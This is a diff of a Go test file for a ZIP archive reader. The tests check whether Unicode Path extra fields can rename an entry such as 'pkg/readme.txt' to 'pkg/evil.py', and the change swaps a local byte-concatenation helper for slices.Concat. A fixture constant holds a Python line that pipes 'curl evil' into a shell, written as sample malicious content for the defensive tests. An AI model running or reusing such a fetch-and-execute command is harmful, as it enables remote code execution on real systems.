@@ -3,6 +3,7 @@ package archive
 import (
 	"errors"
 	"hash/crc32"
+	"slices"
 	"strings"
 	"testing"
 
@@ -35,14 +36,6 @@ func rawExtra(id uint16, body []byte) []byte {
 	return append(b, body...)
 }
 
-func concatBytes(parts ...[]byte) []byte {
-	var b []byte
-	for _, p := range parts {
-		b = append(b, p...)
-	}
-	return b
-}
-
 const evilBody = "import os; os.system('curl evil | sh')\n"
 
 // TestZipUnicodePathNamesAnotherPath: an entry that Python 3.12+ names from
@@ -61,9 +54,9 @@ func TestZipUnicodePathNamesAnotherPath(t *testing.T) {
 		{"after a zip64 field", zipEnt{Name: "pkg/readme.txt", Body: evilBody, Method: methodDeflate, Zip64: true,
 			Extra: upathFor("pkg/readme.txt", "pkg/evil.py")}, "pkg/evil.py"},
 		{"after an unknown field", zipEnt{Name: "pkg/readme.txt", Body: evilBody, Method: methodStore,
-			Extra: concatBytes(rawExtra(0x5455, []byte{1, 0, 0, 0, 0}), upathFor("pkg/readme.txt", "pkg/evil.py"))}, "pkg/evil.py"},
+			Extra: slices.Concat(rawExtra(0x5455, []byte{1, 0, 0, 0, 0}), upathFor("pkg/readme.txt", "pkg/evil.py"))}, "pkg/evil.py"},
 		{"the last field applies", zipEnt{Name: "pkg/readme.txt", Body: evilBody, Method: methodStore,
-			Extra: concatBytes(upathFor("pkg/readme.txt", "pkg/readme.txt"), upathFor("pkg/readme.txt", "pkg/evil.py"))}, "pkg/evil.py"},
+			Extra: slices.Concat(upathFor("pkg/readme.txt", "pkg/readme.txt"), upathFor("pkg/readme.txt", "pkg/evil.py"))}, "pkg/evil.py"},
 		{"directory named a file", zipEnt{Name: "pkg/evil.py/", Body: evilBody, Method: methodStore,
 			Extra: upathFor("pkg/evil.py/", "pkg/evil.py")}, "pkg/evil.py"},
 		{"directory named another file", zipEnt{Name: "pkg/", Body: evilBody, Method: methodStore,
@@ -137,7 +130,7 @@ func TestZipUnicodePathSameName(t *testing.T) {
 		{"CP437 name spelled in UTF-8", zipEnt{Name: "pkg/caf\x82.py", Extra: upathFor("pkg/caf\x82.py", "pkg/café.py")}, "pkg/café.py"},
 		{"UTF-8 flag and same name", zipEnt{Name: "pkg/café.py", Flags: flagUTF8, Extra: upathFor("pkg/café.py", "pkg/café.py")}, "pkg/café.py"},
 		{"a later field names the stored path", zipEnt{Name: raw,
-			Extra: concatBytes(upathFor(raw, "pkg/evil.py"), upathFor(raw, raw))}, raw},
+			Extra: slices.Concat(upathFor(raw, "pkg/evil.py"), upathFor(raw, raw))}, raw},
 		{"wrong CRC-32", zipEnt{Name: raw, Extra: upathField(1, rawCRC^1, "pkg/evil.py")}, raw},
 		{"CRC-32 of the decoded, not the stored, name", zipEnt{Name: "pkg/\x82.txt",
 			Extra: upathField(1, crc32.ChecksumIEEE([]byte("pkg/é.txt")), "pkg/evil.py")}, "pkg/é.txt"},
@@ -180,7 +173,7 @@ func TestZipUnicodePathCorrupt(t *testing.T) {
 		{"version only", rawExtra(extraUnicodePath, []byte{1}), false},
 		{"CRC-32 cut", rawExtra(extraUnicodePath, append([]byte{1}, crcBytes[:3]...)), false},
 		{"version 2, CRC-32 cut", rawExtra(extraUnicodePath, []byte{2, 0, 0}), false},
-		{"cut field after a valid one", concatBytes(upathFor(raw, raw), rawExtra(extraUnicodePath, []byte{1, 2, 3, 4})), false},
+		{"cut field after a valid one", slices.Concat(upathFor(raw, raw), rawExtra(extraUnicodePath, []byte{1, 2, 3, 4})), false},
 		{"invalid UTF-8", upathFor(raw, "pkg/\xffevil.py"), true},
 		{"UTF-8 surrogate", upathFor(raw, "pkg/\xed\xa0\x80.py"), true},
 		{"UTF-8 cut in a rune", upathFor(raw, "pkg/caf\xc3"), true},
